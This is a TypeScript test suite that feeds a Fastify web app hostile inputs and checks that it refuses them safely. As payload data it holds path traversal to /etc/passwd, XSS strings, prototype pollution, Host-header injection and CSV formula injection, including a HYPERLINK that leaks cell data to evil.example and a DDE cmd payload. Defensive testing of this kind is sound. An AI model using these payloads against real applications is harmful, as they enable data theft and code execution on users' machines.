/**
 * Hostile HTTP input and what every response carries.
 *
 * Routes are read from the server itself (test/routes.ts), so a route added later is covered
 * without being listed here: every param of every route is attacked, every route that takes a body
 * gets broken and mistyped bodies, and each must answer with a 4xx and `{ error, message }`, never a
 * 5xx or a success. Then: security headers (CSP without inline script) on API routes, static files,
 * the SPA fallback and errors; CORS closed; safe download file names; participant text inert in the
 * Markdown and CSV reports; no HTML sink in the client's source.
 */
import { mkdtemp, mkdir, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import Papa from 'papaparse';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addNote, readAreas } from '@verksted/shared';
import type { CreatedBoard } from '../boards/board-directory.js';
import { startServer, type TestServer } from '../../test/server.js';
import { editBoard } from '../../test/boards.js';
import { fillRoute, listRoutes, routeParams, type RouteInfo } from '../../test/routes.js';

const MAX_IMPORT_BYTES = 100_000;
/** Routes that take no body: a body is ignored, so a mistyped one is not an error. */
const BODYLESS: ReadonlySet<string> = new Set(['DELETE /api/boards/:id', 'POST /api/boards/:id/extend']);
/** Routes whose body is optional: JSON `null` counts as no body. */
const OPTIONAL_BODY: ReadonlySet<string> = new Set(['POST /api/boards/:id/snapshots']);

const HOSTILE_PARAMS: readonly string[] = [
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fboards',
  encodeURIComponent('ÆØÅ-üñî-🙂-\u202e'),
  'A'.repeat(1000),
  'AAAAAAAAAAAAAAAAAAAA%00A',
  encodeURIComponent('<script>alert(1)</script>'),
  '%E0%A4%A',
  encodeURIComponent('AAAAAAAAAAAAAAAAAAAAA\n'),
];

let server: TestServer;
let dist: string;
let board: CreatedBoard;
let snapshotId: string;
let routes: RouteInfo[];

const auth = (key: string) => ({ authorization: `Bearer ${key}` });

beforeAll(async () => {
  dist = await mkdtemp(path.join(tmpdir(), 'verksted-dist-'));
  await mkdir(path.join(dist, 'assets'));
  await writeFile(path.join(dist, 'index.html'), '<!doctype html><title>Verksted</title><script type="module" src="/assets/app-1234.js"></script>');
  await writeFile(path.join(dist, 'assets', 'app-1234.js'), 'console.log(1)');
  server = await startServer({
    config: {
      CLIENT_DIST: dist,
      MAX_IMPORT_BYTES,
      BOARDS_PER_IP_PER_HOUR: 100_000,
      JOIN_LOOKUPS_PER_IP_PER_MINUTE: 100_000,
      FACILITATOR_AUTH_FAILURES_PER_IP_PER_MINUTE: 100_000,
    },
  });
  board = await server.createBoard({ title: '"; filename=evil.html; x=" ../../etc/passwd <script>alert(1)</script> \u202egnp.exe 🙂', template: 'innovation-strategy' });
  const snapshot = await server.app.inject({ method: 'POST', url: `/api/boards/${board.id}/snapshots`, headers: auth(board.facilitatorKey), payload: { label: 'før' } });
  expect(snapshot.statusCode).toBe(201);
  snapshotId = snapshot.json<{ id: string }>().id;
  routes = listRoutes(server.app);
});

afterAll(async () => {
  await server.close();
  await rm(dist, { recursive: true, force: true });
});

/** Valid values for every param name the routes use. */
function validParams(): Record<string, string> {
  return { id: board.id, boardId: board.id, snapshotId, code: board.joinCode };
}

function expectErrorBody(response: LightMyRequestResponse, context: string): void {
  expect(response.headers['content-type'], context).toMatch(/^application\/json/);
  const body = response.json<Record<string, unknown>>();
  expect(Object.keys(body).sort(), context).toEqual(['error', 'message']);
  expect(typeof body.error === 'string' && /^[A-Z_]+$/.test(body.error), context).toBe(true);
  expect(typeof body.message === 'string' && body.message.length > 0, context).toBe(true);
  expect(String(body.message), context).not.toContain('<script>');
}

describe('the route inventory', () => {
  it('finds the routes of the public contract', () => {
    const names = routes.map((r) => `${r.method} ${r.url}`);
    for (const expected of ['GET /ws/:boardId', 'POST /api/boards', 'GET /api/boards/:id', 'PATCH /api/boards/:id', 'GET /api/join/:code', 'GET /api/boards/:id/export.json', 'GET /healthz']) {
      expect(names).toContain(expected);
    }
  });
});

describe('hostile params', () => {
  it('every param of every route: path traversal, unicode, 1000-char and control-character ids get a 4xx with { error, message }', async () => {
    const seen: string[] = [];
    for (const route of routes) {
      for (const param of routeParams(route.url)) {
        for (const hostile of HOSTILE_PARAMS) {
          const url = fillRoute(route.url, { ...validParams(), [param]: hostile });
          const response = await server.app.inject({ method: route.method as 'GET', url, headers: auth(board.facilitatorKey), payload: route.method === 'GET' || route.method === 'DELETE' ? undefined : {} });
          const context = `${route.method} ${url}`;
          expect(response.statusCode, context).toBeGreaterThanOrEqual(400);
          expect(response.statusCode, context).toBeLessThan(500);
          expectErrorBody(response, context);
          seen.push(`${route.method} ${route.url} :${param}`);
        }
      }
    }
    // Every board's files stayed where they were.
    expect((await server.app.inject({ method: 'GET', url: `/api/boards/${board.id}` })).statusCode).toBe(200);
    expect(seen.length).toBeGreaterThan(0);
  });
});

describe('hostile bodies', () => {
  const bodyRoutes = (): RouteInfo[] => routes.filter((r) => ['POST', 'PUT', 'PATCH'].includes(r.method));

  /** A fresh board for routes that change or copy their board (a success must not hurt the others). */
  async function send(route: RouteInfo, payload: string | undefined, contentType: string | undefined): Promise<LightMyRequestResponse> {
    const target = await server.createBoard();
    const snapshot = await server.app.inject({ method: 'POST', url: `/api/boards/${target.id}/snapshots`, headers: auth(target.facilitatorKey) });
    const url = fillRoute(route.url, { id: target.id, snapshotId: snapshot.json<{ id: string }>().id, code: target.joinCode, boardId: target.id });
    return server.app.inject({
      method: route.method as 'POST',
      url,
      headers: { ...auth(target.facilitatorKey), ...(contentType ? { 'content-type': contentType } : {}) },
      payload,
    });
  }

  it('malformed JSON is 400, a form or multipart body 415, an oversized body 413, on every route that takes a body', async () => {
    for (const route of bodyRoutes()) {
      const name = `${route.method} ${route.url}`;
      const malformed = await send(route, '{"title": "x", ', 'application/json');
      expect(malformed.statusCode, `${name} malformed`).toBe(400);
      expectErrorBody(malformed, name);
      // Fastify parses text/plain itself (into a string, which no body schema accepts); other types it refuses.
      for (const [type, status] of [['text/plain', 400], ['application/x-www-form-urlencoded', 415], ['multipart/form-data; boundary=x', 415]] as const) {
        if (BODYLESS.has(name) && type === 'text/plain') continue; // parsed, then ignored
        const other = await send(route, 'title=x', type);
        expect(other.statusCode, `${name} ${type}`).toBe(status);
        expectErrorBody(other, `${name} ${type}`);
      }
      const huge = await send(route, JSON.stringify({ padding: 'x'.repeat(MAX_IMPORT_BYTES + 1024) }), 'application/json');
      expect(huge.statusCode, `${name} huge`).toBe(413);
      expect(huge.json().error).toBe('PAYLOAD_TOO_LARGE');
      const proto = await send(route, '{"__proto__": {"polluted": true}, "title": "x", "template": "blank"}', 'application/json');
      expect(proto.statusCode, `${name} __proto__`).toBe(400);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    }
  });

  it('wrong types and unknown fields are refused with 400 by every route that reads a body', async () => {
    const wrong = ['[]', '"text"', '42', 'true', '{"title": 42, "template": ["blank"], "phase": {}, "mode": 7, "boards": "all", "label": []}', '{"unknown": 1}'];
    for (const route of bodyRoutes()) {
      const name = `${route.method} ${route.url}`;
      if (BODYLESS.has(name)) continue;
      for (const body of [...wrong, ...(OPTIONAL_BODY.has(name) ? [] : ['null', '{}'])]) {
        const response = await send(route, body, 'application/json');
        expect({ route: name, body, status: response.statusCode }).toEqual({ route: name, body, status: 400 });
        expectErrorBody(response, `${name} ${body}`);
      }
    }
  });
});

describe('unknown routes', () => {
  it('answer 404 { error: NOT_FOUND } for API paths, whatever the method, without echoing the URL', async () => {
    const attempts: [string, string][] = [
      ['GET', '/api/nothing?key=secret'],
      ['POST', '/api/boards/x/y/z'],
      ['PUT', '/api/boards'],
      ['DELETE', '/healthz'],
      ['PATCH', '/ws/AAAAAAAAAAAAAAAAAAAAAA'],
    ];
    for (const [method, url] of attempts) {
      const response = await server.app.inject({ method: method as 'GET', url });
      expect({ method, url, status: response.statusCode }).toEqual({ method, url, status: 404 });
      expect(response.json()).toEqual({ error: 'NOT_FOUND', message: 'Not found' });
    }
  });

  it('never serve files outside the client build, however the path is written', async () => {
    for (const url of ['/api/../../etc/passwd', '/api/boards/%2e%2e/%2e%2e/etc/passwd', '/../../../../etc/passwd', '/assets/../../../../etc/passwd', '/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/%2e%2e/package.json', '/assets/..%2f..%2fpackage.json']) {
      const response = await server.app.inject({ method: 'GET', url });
      expect(response.body, url).not.toContain('root:x:0:0');
      expect(response.body, url).not.toContain('"name"');
    }
  });
});

/** Directive name → sources, from a Content-Security-Policy header. */
function parseCsp(header: string | string[] | number | undefined): Map<string, string[]> {
  const directives = new Map<string, string[]>();
  for (const part of String(header ?? '').split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives.set(name, sources);
  }
  return directives;
}

describe('security headers', () => {
  const cases = (): [string, string, Record<string, string>?][] => [
    ['an API route', '/healthz'],
    ['an API route with a board', `/api/boards/${board.id}`],
    ['a static file', '/assets/app-1234.js'],
    ['the SPA fallback', `/b/${board.id}`],
    ['the root', '/'],
    ['a JSON 404', '/api/nothing'],
    ['a 400', '/api/boards/not-an-id'],
    ['a download', `/api/boards/${board.id}/export.csv`, auth(board.facilitatorKey)],
  ];

  it('sends helmet’s headers and a CSP that allows no inline script on every kind of response', async () => {
    for (const [what, url, headers] of cases()) {
      const response = await server.app.inject({ method: 'GET', url, headers: { host: '127.0.0.1:3000', ...headers } });
      const h = response.headers;
      const context = `${what} (${url})`;
      expect(h['x-content-type-options'], context).toBe('nosniff');
      expect(h['x-frame-options'], context).toBe('DENY');
      expect(h['referrer-policy'], context).toBe('no-referrer');
      expect(h['cross-origin-opener-policy'], context).toBe('same-origin');
      expect(h['cross-origin-resource-policy'], context).toBe('same-origin');
      expect(h['strict-transport-security'], context).toMatch(/max-age=\d+/);
      expect(h['x-powered-by'], context).toBeUndefined();
      const csp = parseCsp(h['content-security-policy']);
      expect(csp.get('default-src'), context).toEqual(["'self'"]);
      expect(csp.get('script-src'), context).toEqual(["'self'"]);
      expect(csp.get('script-src-attr'), context).toEqual(["'none'"]);
      expect(csp.get('style-src'), context).toEqual(["'self'"]);
      expect(csp.get('img-src'), context).toEqual(["'self'", 'data:', 'blob:']);
      expect(csp.get('connect-src'), context).toEqual(["'self'", 'ws://127.0.0.1:3000', 'wss://127.0.0.1:3000']);
      expect(csp.get('object-src'), context).toEqual(["'none'"]);
      expect(csp.get('frame-ancestors'), context).toEqual(["'none'"]);
      expect(csp.get('base-uri'), context).toEqual(["'self'"]);
      expect(csp.has('upgrade-insecure-requests'), context).toBe(false);
      expect(String(h['content-security-policy']), context).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    }
  });

  it('does not let a forged Host header into the policy', async () => {
    for (const host of ['evil.example; script-src *', "x' 'unsafe-inline", 'a b', 'evil.example/path']) {
      const response = await server.app.inject({ method: 'GET', url: '/', headers: { host } });
      const csp = parseCsp(response.headers['content-security-policy']);
      expect(csp.get('connect-src'), host).toEqual(["'self'", "'self'"]);
      expect(csp.get('script-src'), host).toEqual(["'self'"]);
    }
  });

  it('keeps the built client free of inline script and inline style blocks (skipped without a client build)', async (context) => {
    const index = fileURLToPath(new URL('../../../client/dist/index.html', import.meta.url));
    if (!existsSync(index)) context.skip();
    const html = await readFile(index, 'utf8');
    for (const tag of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)) {
      expect(tag[1], 'a script without src').toMatch(/\bsrc=/);
      expect(tag[2]!.trim()).toBe('');
    }
    expect(html).not.toMatch(/<style\b/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/javascript:/i);
  });
});

describe('CORS is closed', () => {
  it('sends no Access-Control-Allow-Origin to another origin, on reads, writes or errors', async () => {
    const origin = 'https://evil.example';
    const requests = [
      server.app.inject({ method: 'GET', url: `/api/boards/${board.id}`, headers: { origin } }),
      server.app.inject({ method: 'GET', url: `/api/boards/${board.id}/export.json`, headers: { origin, ...auth(board.facilitatorKey) } }),
      server.app.inject({ method: 'POST', url: '/api/boards', headers: { origin }, payload: { title: 'x', template: 'blank' } }),
      server.app.inject({ method: 'GET', url: '/api/nothing', headers: { origin } }),
    ];
    for (const response of await Promise.all(requests)) {
      expect(Object.keys(response.headers).filter((h) => h.startsWith('access-control-'))).toEqual([]);
    }
  });

  it('gives a cross-origin preflight no permissive answer', async () => {
    for (const url of [`/api/boards/${board.id}`, '/api/boards', `/api/boards/${board.id}/snapshots`]) {
      const response = await server.app.inject({
        method: 'OPTIONS',
        url,
        headers: { origin: 'https://evil.example', 'access-control-request-method': 'PATCH', 'access-control-request-headers': 'authorization, content-type' },
      });
      expect(response.statusCode, url).toBeGreaterThanOrEqual(400);
      expect(Object.keys(response.headers).filter((h) => h.startsWith('access-control-')), url).toEqual([]);
    }
  });
});

describe('downloads', () => {
  it('name every download with a slug only, whatever the board title', async () => {
    const downloads = routes.filter((r) => r.method === 'GET' && /\/export\.[a-z]+$/.test(r.url));
    expect(downloads.length).toBeGreaterThanOrEqual(6);
    for (const route of downloads) {
      const url = fillRoute(route.url, validParams());
      const response = await server.app.inject({ method: 'GET', url, headers: auth(board.facilitatorKey) });
      expect(response.statusCode, url).toBe(200);
      expect(response.headers['content-disposition'], url).toMatch(/^attachment; filename="[a-z0-9-]+\.(json|md|csv)"$/);
      expect(response.headers['x-content-type-options']).toBe('nosniff');
    }
    const rollup = await server.app.inject({ method: 'POST', url: '/api/rollup', payload: { boards: [{ id: board.id, facilitatorKey: board.facilitatorKey }], format: 'md' } });
    expect(rollup.statusCode).toBe(200);
    expect(rollup.headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+\.md"$/);
  });

  const HOSTILE_NOTES = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(document.cookie)</script>',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")',
    '+SUM(1,2)',
    '-2+3',
    '@cmd|\' /C calc\'!A0',
    '\t=1+1',
    '[lenke](javascript:alert(1))',
    '![bilde](http://evil.example/pixel.png)',
  ];

  it('keep participant text inert: no HTML or links in Markdown, no formulas in CSV', async () => {
    const target = await server.createBoard({ template: 'retrospective' });
    await editBoard(server, target.id, (doc) => {
      const areaId = readAreas(doc)[0]!.id;
      for (const text of HOSTILE_NOTES) addNote(doc, { areaId, text, kind: 'idea', authorId: 'p', authorName: '=cmd()<b>Kari</b>' });
    });
    const get = (format: string) => server.app.inject({ method: 'GET', url: `/api/boards/${target.id}/export.${format}`, headers: auth(target.facilitatorKey) });

    const md = (await get('md')).body;
    expect(md).not.toMatch(/<img|<script|<b>/i);
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/i); // an escaped \] is no link
    expect(md).not.toMatch(/!\[bilde(?<!\\)\]\(/);
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');

    const csv = await get('csv');
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const cells = rows.flat();
    for (const cell of cells) expect(cell, `CSV cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${HOSTILE_NOTES[2]}`);
    expect(cells).toContain(`'${HOSTILE_NOTES[4]}`);

    // The roll-up of several workshops renders the same text, as safely.
    const rollup = (format: string) => server.app.inject({ method: 'POST', url: '/api/rollup', payload: { boards: [{ id: target.id, facilitatorKey: target.facilitatorKey }], format } });
    const rollupMd = (await rollup('md')).body;
    expect(rollupMd).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(rollupMd).not.toMatch(/<img|<script|<b>|(?<!\\)\]\(javascript:/i);
    const rollupCells = Papa.parse<string[]>((await rollup('csv')).body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.flat();
    for (const cell of rollupCells) expect(cell, `roll-up CSV cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    expect(rollupCells).toContain(`'${HOSTILE_NOTES[2]}`);

    // JSON keeps the text exactly (it is data, downloaded as an attachment, never rendered).
    const json = (await get('json')).json<{ areas: { notes: { text: string }[] }[] }>();
    expect(json.areas[0]!.notes.map((n) => n.text).sort()).toEqual([...HOSTILE_NOTES].sort());
  });
});

describe('the client never renders participant text as HTML', () => {
  it('has no HTML sink in client/src (React escapes everything else)', async () => {
    const root = fileURLToPath(new URL('../../../client/src', import.meta.url));
    const files = (await readdir(root, { recursive: true })).filter((f) => /\.(ts|tsx)$/.test(f) && !/\.test\.tsx?$/.test(f));
    expect(files.length).toBeGreaterThan(10);
    const sinks = /dangerouslySetInnerHTML|\.innerHTML|\.outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function\(|srcdoc/;
    const offenders: string[] = [];
    for (const file of files) {
      const source = await readFile(path.join(root, file), 'utf8');
      source.split('\n').forEach((line, i) => {
        if (sinks.test(line)) offenders.push(`${file}:${i + 1}: ${line.trim()}`);
      });
    }
    expect(offenders).toEqual([]);
  });
});

